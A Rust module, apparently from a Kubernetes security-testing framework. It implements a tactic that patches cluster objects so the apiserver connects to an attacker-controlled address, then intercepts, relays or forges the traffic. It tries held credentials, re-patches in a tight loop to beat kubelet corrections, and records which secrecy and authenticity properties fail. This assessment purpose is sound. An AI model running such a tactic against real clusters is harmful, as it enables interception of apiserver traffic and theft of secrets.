//! The attacker changes the objects that say where the apiserver connects to, so that it is led to
//! the attacker.

use super::Tactic;
use super::spend::{Shown, for_ask, request};
use super::terminate::{Terminate, Then};
use crate::field::{Field, Probe};
use crate::forge::Issuer;
use crate::holdings::Held;
use crate::intercept::Interception;
use crate::notes::Notes;
use crate::target::{Ask, Claim, ServerKind, Speaks, Target};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, Property};
use serde_json::Value;
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// How long controllers get to notice a change.
const NOTICE: Duration = Duration::from_secs(1);
/// How often the attacker repeats its change.
const AGAIN: Duration = Duration::from_millis(20);

/// Claiming a server's address.
pub struct ClaimAddress;

#[async_trait(?Send)]
impl Tactic for ClaimAddress {
    fn name(&self) -> &'static str {
        "claim-the-address"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        let Some(here) = field.holdings().address() else { return notes.finish() };
        let mut led = Vec::new();
        for claim in &target.claims {
            let patch = claim.leading_to(here);
            if let Some(with) = change(&notes, target, (claim, &patch)).await {
                led.push((claim, with));
            }
        }
        if led.is_empty() {
            probe.await;
            return notes.finish();
        }
        tokio::time::sleep(NOTICE).await;
        // Kubelets put right what others wrote into their nodes' status (every 10 s by default): who
        // wants the next connection claims once more (NCC-E003660-JAV did so in a loop).
        claim_all(&notes, target, (&led, here)).await;
        let interception = Interception::await_at(&notes, &genuine(target)).await;
        let impostor = taking_over(field, target);
        tokio::select! {
            biased;
            () = impostor.serve_during(&notes, target, (&interception, probe)) => {}
            () = insist(&notes, target, (&led, here)) => {}
        }
        drop(interception);
        for (claim, with) in led {
            // What cannot be put back shows in the uses that follow.
            let _ = patch(&notes, target, (claim, &claim.undo, with.as_ref())).await;
        }
        tokio::time::sleep(NOTICE).await;
        notes.finish()
    }
}

/// Whose objects these are puts them right again and again; so the attacker changes them again and
/// again.
async fn insist(notes: &Notes<'_>, target: &Target, (led, here): (&[(&Claim, Option<Held>)], IpAddr)) {
    loop {
        tokio::time::sleep(AGAIN).await;
        claim_all(notes, target, (led, here)).await;
    }
}

async fn claim_all(notes: &Notes<'_>, target: &Target, (led, here): (&[(&Claim, Option<Held>)], IpAddr)) {
    for (claim, with) in led {
        // Where it fails once, it may succeed the next time.
        let _ = patch(notes, target, (claim, &claim.leading_to(here), with.as_ref())).await;
    }
}

/// For each port of the path, a genuine server.
fn genuine(target: &Target) -> BTreeMap<u16, SocketAddr> {
    target.servers.iter().rev().map(|server| (server.port(), *server)).collect()
}

/// What the attacker does with whoever was led to it: pass on what it can, answer the rest itself.
fn taking_over(field: &Field, target: &Target) -> Terminate {
    let own = if field.holdings().serving.is_some() { Issuer::Genuine } else { Issuer::OwnAuthority };
    let issuer = (target.speaks == Speaks::Https).then_some(own);
    let then = if target.server == ServerKind::Workload { Then::Relay } else { Then::Forge };
    Terminate::new(issuer, then)
}

/// Makes the change, without a credential or with one that the attacker holds: gives which.
async fn change(notes: &Notes<'_>, target: &Target, (claim, to): (&Claim, &Value)) -> Option<Option<Held>> {
    let flow = notes.field().flow(target.apiserver);
    let credentials = notes.field().credentials();
    for held in std::iter::once(None).chain(credentials.into_iter().map(Some)) {
        let with = held.as_ref().map_or("no credential", |held| held.what.as_str());
        match patch(notes, target, (claim, to, held.as_ref())).await {
            Some(status) if (200..300).contains(&status) => {
                notes.tell(format!("{flow}: changed {} with {with}", claim.what));
                return Some(held);
            }
            Some(status) => {
                notes.tell(format!("{flow}: wanted to change {} with {with}", claim.what));
                notes.refused_by_status(&flow, status, aims(target));
            }
            None => notes.tell(format!("{flow}: no answer")),
        }
    }
    None
}

async fn patch(
    notes: &Notes<'_>,
    target: &Target,
    (claim, to, held): (&Claim, &Value, Option<&Held>),
) -> Option<u16> {
    let wanted = Ask::patch(&claim.path, to, "where the apiserver connects to");
    let shown = held.map_or_else(Shown::default, |held| Shown::of(&held.secret));
    let asked = (for_ask(&wanted, target.apiserver), shown);
    Some(request(notes, target.apiserver, Speaks::Https, asked).await.ok()?.status)
}

/// What is lost where the apiserver can be led to the attacker. To a kubelet nothing can be passed
/// on, as the apiserver proves itself by a key.
fn aims(target: &Target) -> &'static [Property] {
    match target.server {
        ServerKind::Workload => &[
            Property::RequestSecret,
            Property::ResponseSecret,
            Property::ResponseAuthentic,
            Property::RequestAuthentic,
        ],
        _ => &[Property::RequestSecret, Property::ResponseAuthentic],
    }
}
